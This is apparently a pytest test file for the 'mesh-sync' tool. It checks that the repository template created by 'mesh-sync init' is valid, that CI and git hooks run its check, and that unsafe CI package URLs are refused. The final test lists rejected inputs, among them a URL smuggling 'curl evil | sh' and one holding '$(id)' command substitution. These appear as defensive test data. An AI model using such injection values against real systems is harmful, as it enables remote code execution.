"""The template of a mesh repository: what `mesh-sync init` lays down is valid, complete, and guards itself."""

from __future__ import annotations

import re
import shutil
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path

import attrs
import pytest

from mesh_sync.check.leaked_keys import leaked_keys
from mesh_sync.errors import ConfigError
from mesh_sync.mesh import manifest, tree
from mesh_sync.mesh.model import Mesh, Peer
from mesh_sync.trust import node_rights, signers
from mesh_sync.workspace import init
from unit.hooked_git_host import Push

TEMPLATE = Path(__file__).parents[2] / "mesh-repo-template"
SAMPLE = TEMPLATE / "peers/example.toml.sample"


def settings(text: str) -> Iterator[str]:
    """Each line that sets a key or would when uncommented, without its `# `."""
    for line in text.splitlines():
        if match := re.match(r"(?:# )?([a-z_]+ = .+)", line):
            yield match[1]


def test_it_is_a_mesh_that_checks_clean() -> None:
    files = tree.from_directory(TEMPLATE)
    mesh, findings = manifest.read(files.manifests)
    assert (*files.findings, *findings, *leaked_keys(files.texts)) == ()
    assert mesh is not None
    assert mesh.peers == {}, "the sample is no peer"


def test_name_and_networks_are_plain_values_to_fill_in() -> None:
    table = tomllib.loads((TEMPLATE / "mesh.toml").read_text())
    assert set(table) == {"format", "name", "networks", "guard"}


def test_mesh_toml_shows_every_key() -> None:
    shown = {line.split()[0] for line in settings((TEMPLATE / "mesh.toml").read_text())}
    tables = {"peers", "guard", "rollout", "preshared", "expect"}
    assert {attribute.name for attribute in attrs.fields(Mesh)} - tables <= shown
    assert {"max_removed_peers", "from", "to", "reachable", "secret", "former", "since", "canary", "wait"} <= shown


def test_what_mesh_toml_comments_out_is_valid() -> None:
    text = re.sub(r"(?m)^# (?=[a-z_]+ = |\[)", "", (TEMPLATE / "mesh.toml").read_text())
    mesh, findings = manifest.read({"mesh.toml": text.encode()})
    assert findings == ()
    assert mesh is not None
    assert len(mesh.expect) == 2


def test_the_sample_shows_every_key_of_a_peer() -> None:
    shown = {line.split()[0] for line in settings(SAMPLE.read_text())}
    assert shown == {attribute.name for attribute in attrs.fields(Peer)} - {"name"}


@pytest.mark.parametrize("line", sorted(settings(SAMPLE.read_text())))
def test_what_the_sample_comments_out_is_valid(line: str) -> None:
    key = line.split()[0]
    rest = re.sub(rf"(?m)^{key} = .*$", "", SAMPLE.read_text())
    files = {"mesh.toml": (TEMPLATE / "mesh.toml").read_bytes(), "peers/example.toml": f"{rest}\n{line}\n".encode()}
    assert manifest.read(files)[1] == ()


def test_the_samples_of_who_may_sign_and_what_nodes_may_change_are_valid() -> None:
    listed, findings = signers.parse((TEMPLATE / "allowed_signers.sample").read_bytes())
    assert findings == ()
    assert [signer.is_node for signer in listed.entries] == [False, False, True]
    allowed, findings = node_rights.parse((TEMPLATE / "policy.toml.sample").read_bytes())
    assert findings == ()
    assert allowed.grants("office") == {"subnets", "owner", "tags"}


def test_the_sample_of_a_policy_names_every_key_there_is() -> None:
    text = (TEMPLATE / "policy.toml.sample").read_text()
    for keys in (node_rights.OWN_KEYS, node_rights.EXTRA_KEYS):
        assert all(key in text for key in keys)


def test_ssh_keygen_can_read_the_keys_of_the_sample() -> None:
    for signer in signers.parse((TEMPLATE / "allowed_signers.sample").read_bytes())[0].entries:
        shown = subprocess.run(["ssh-keygen", "-l", "-f", "-"], input=signer.key, capture_output=True, text=True)
        assert signer.fingerprint in shown.stdout


@pytest.mark.parametrize("path", [".github/workflows/check.yml", ".gitlab-ci.yml", "hooks/pre-receive"])
def test_every_kind_of_git_host_runs_the_check(path: str) -> None:
    text = (TEMPLATE / path).read_text()
    assert re.search(r"mesh-sync check --(since|pre-receive)", text)
    assert "\t" not in text


def test_on_github_a_new_admin_is_shown_beside_the_diff() -> None:
    text = (TEMPLATE / ".github/workflows/check.yml").read_text()
    script = re.search(r"ANNOTATE: (.+)", text)
    assert script
    said = "allowed_signers:eve@x.org: warning: becomes an admin\npeers/b.toml:mtu: 3 is not an MTU\n"
    shown = subprocess.run(["sed", script[1]], input=said, capture_output=True, text=True, check=True).stdout
    assert shown == f"::warning file=allowed_signers::{said}"
    assert len(re.findall(r'mesh-sync check --since .+ \| sed "\$ANNOTATE"', text)) == 2
    assert "shell: bash" in text, "which fails when the check does: set -o pipefail"


@pytest.fixture
def host(tmp_path: Path) -> Push:
    return Push(tmp_path)


def test_without_mesh_sync_on_the_host_nothing_gets_in(host: Push) -> None:
    host.commit(**{"mesh.toml": "good"})
    host.environment["PATH"] = "/usr/bin:/bin"
    result = host.push()
    assert result.returncode == 1
    assert "mesh-sync is not installed" in result.stderr


def test_the_template_passes_the_real_check_and_a_mistake_does_not(host: Push) -> None:
    shutil.copytree(TEMPLATE, host.clone, dirs_exist_ok=True)
    host.commit()
    result = host.push()
    assert result.returncode == 0, result.stderr
    host.commit(**{"peers/x.toml": "mtu = 0"})
    result = host.push()
    assert result.returncode == 1
    assert "remote: peers/x.toml:mtu: " in result.stderr


def test_ci_installs_the_package_that_init_is_told(tmp_path: Path) -> None:
    told = f"https://example.org/mesh_sync-0.1.0-py3-none-any.whl#sha256={'a1' * 32}"
    made = init.create(tmp_path / "mesh", "lab", ["10.0.0.0/24"], ci_package=told)
    for file in init.CI_FILES:
        assert f'MESH_SYNC: "{told}"\n' in (made / file).read_text()
        assert (made / file).read_text().replace(told, "") == (TEMPLATE / file).read_text()


@pytest.mark.parametrize(
    "told",
    [
        "mesh-sync",
        "https://example.org/mesh_sync.whl",
        f"http://example.org/mesh_sync.whl#sha256={'a1' * 32}",
        f"https://example.org/mesh_sync.whl#sha256={'A1' * 31}",
        f'https://example.org/"; curl evil | sh; "#sha256={"a1" * 32}',
        f"https://example.org/$(id)#sha256={'a1' * 32}",
        f"https://example.org/mesh_sync.whl#sha256={'a1' * 32}\n",
    ],
)
def test_a_package_for_ci_without_https_or_hash_is_refused(told: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="--ci-package"):
        init.create(tmp_path / "mesh", "lab", ["10.0.0.0/24"], ci_package=told)
    assert not (tmp_path / "mesh").exists()
